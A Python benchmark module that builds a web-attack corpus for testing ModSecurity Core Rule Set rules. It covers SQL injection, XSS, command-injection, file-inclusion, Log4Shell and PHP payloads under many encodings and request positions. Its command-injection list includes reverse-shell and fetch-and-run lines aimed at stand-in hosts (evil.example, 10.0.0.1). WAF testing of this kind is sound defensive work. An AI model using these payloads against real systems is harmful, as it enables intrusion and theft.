"""A generated attack corpus for the CRS differential test: payloads per CRS category, each under the
encodings the CRS transformations undo, placed in every part of a request the rules read.

    python bench/crs_corpus.py        # prints the size per category

`attack_corpus()` is deterministic (no randomness): the test takes every Nth request as its CI sample.
"""

from __future__ import annotations

import base64
import html
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import orjson

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bench.crs_reference import Request

PAYLOADS: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1", "1' UNION SELECT password FROM users--", "admin'--", "1; DROP TABLE users",
        "1 AND SLEEP(5)", "1' AND pg_sleep(5)--", "' OR 1=1#", "1 OR hex(password)=1", "x' AND strcmp(a,b)='",
        "1' AND extractvalue(1,concat(0x7e,version()))--", "' UNION ALL SELECT NULL,@@version--",
        "1)) OR benchmark(10000000,MD5(1))#", "'; EXEC xp_cmdshell('dir')--", "1' AND data->>'role'='admin",
        "SELECT * FROM information_schema.tables", "1' waitfor delay '0:0:5'--", "a' || 'b' = 'ab",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "javascript:alert(document.cookie)", "<iframe src=javascript:alert(1)>", "[].sort.call`${alert}1337`",
        "(document)[\"cookie\"]", "<body onload=alert(1)>", "<a href=\"javascript:void(0)\" onclick=x()>",
        "\"><script>prompt(1)</script>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "expression(alert(1))", "<style>@import 'http://evil.example/x.css';</style>",
    ],
    "rce": [
        "; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; busybox nc 10.0.0.1 4444 -e sh",
        "cat /etc/pa[s]swd", "FOR /F %i IN ('dir') DO echo %i", "IF EXIST C:\\boot.ini type C:\\boot.ini",
        "; powershell -enc SQBFAFgA", "& ping -n 10 127.0.0.1 &", "|| wget http://evil.example/x.sh",
        "; /bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "() { :; }; /bin/cat /etc/passwd",
        "; curl http://evil.example|sh", "&& nslookup evil.example",
    ],
    "lfi": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
        "..%2f..%2fetc%2fpasswd", "/proc/self/environ", "~/.ssh/id_rsa", "/var/log/apache2/access.log",
        "C:\\Windows\\System32\\drivers\\etc\\hosts", "file:///etc/passwd", ".htaccess", "WEB-INF/web.xml",
    ],
    "rfi": [
        "http://evil.example/shell.txt?", "https://203.0.113.9/x.php", "ftp://evil.example/a.txt?",
        "http://198.51.100.7/include.php?", "php://input", "data://text/plain;base64,PD9waHA=",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
        "system('id');", "eval(base64_decode('cGhwaW5mbygpOw=='));", "$_SERVER['HTTP_USER_AGENT']",
        "O:8:\"stdClass\":0:{}", "call_user_func('system','id')", "assert($_POST['x'])", "file_get_contents('/etc/passwd')",
    ],
    "java": [
        "${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "class.module.classLoader.resources",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    ],
    "nodejs": [
        "require('child_process').exec('id')", "process.mainModule.require('fs')",
        "{\"__proto__\":{\"polluted\":1}}", "constructor.prototype.polluted=1",
    ],
    "session": ["<meta http-equiv=\"set-cookie\" content=\"sessionid=abc\">", "document.cookie=\"PHPSESSID=x\""],
}

Encoder = Callable[[str], str]


def _pct_all(value: str) -> str:
    return "".join(f"%{b:02x}" for b in value.encode())


ENCODINGS: dict[str, Encoder] = {
    "raw": lambda v: v,
    "url": lambda v: quote(v, safe=""),
    "double-url": lambda v: quote(quote(v, safe=""), safe=""),
    "url-all": _pct_all,
    "iis-u": lambda v: "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in v),
    "html-hex": lambda v: "".join(f"&#x{ord(c):x};" if not c.isalnum() else c for c in v),
    "html-named": lambda v: html.escape(v, quote=True),
    "js-hex": lambda v: "".join(f"\\x{ord(c):02x}" if not c.isalnum() and ord(c) < 256 else c for c in v),
    "css": lambda v: "".join(f"\\{ord(c):x} " if not c.isalnum() else c for c in v),
    "upper": str.upper,
    "nulls": lambda v: "\x00".join(v[i:i + 3] for i in range(0, len(v), 3)),
    "comments": lambda v: v.replace(" ", "/**/"),
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
}

HEADERS = (("Host", "api.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*"))


def _places(value: str) -> Iterator[tuple[str, Request]]:
    """The same value in each part of a request ModSecurity presents to the rules."""
    q = quote(value, safe="")
    yield "query-value", Request("GET", f"/api/items?id=7&q={q}", HEADERS)
    yield "query-name", Request("GET", f"/api/items?{q}=1", HEADERS)
    form = f"comment={q}".encode()
    yield "form-value", Request("POST", "/api/comments", (*HEADERS, ("Content-Type", "application/x-www-form-urlencoded"),
                                                          ("Content-Length", str(len(form)))), form)
    body = orjson.dumps({"user": {"name": "Ann", "bio": value}, "tags": ["a", value]})
    yield "json-value", Request("POST", "/api/profile", (*HEADERS, ("Content-Type", "application/json"),
                                                        ("Content-Length", str(len(body)))), body)
    body = orjson.dumps({value: 1})
    yield "json-key", Request("POST", "/api/profile", (*HEADERS, ("Content-Type", "application/json"),
                                                      ("Content-Length", str(len(body)))), body)
    yield "cookie", Request("GET", "/api/items", (*HEADERS, ("Cookie", f"sid=abc; pref={q}")))
    yield "referer", Request("GET", "/api/items", (*HEADERS, ("Referer", f"https://app.example/?x={q}")))


def attack_corpus() -> list[Request]:
    """Every payload x encoding x place, labelled `category/encoding/place`."""
    out: list[Request] = []
    for category, payloads in PAYLOADS.items():
        for payload in payloads:
            for encoding, encode in ENCODINGS.items():
                try:
                    value = encode(payload)
                except UnicodeError:
                    continue
                if "\x00" in value and encoding != "nulls":
                    continue
                for place, req in _places(value):
                    if "\x00" in value and place in ("cookie", "referer"):
                        continue  # NUL cannot travel in a header
                    out.append(Request(req.method, req.target, req.headers, req.body,
                                       f"{category}/{encoding}/{place}"))
    return out


if __name__ == "__main__":
    from collections import Counter

    counts = Counter(r.label.split("/")[0] for r in attack_corpus())
    for category, n in sorted(counts.items()):
        print(f"{category:10} {n}")
    print(f"{'total':10} {sum(counts.values())}")
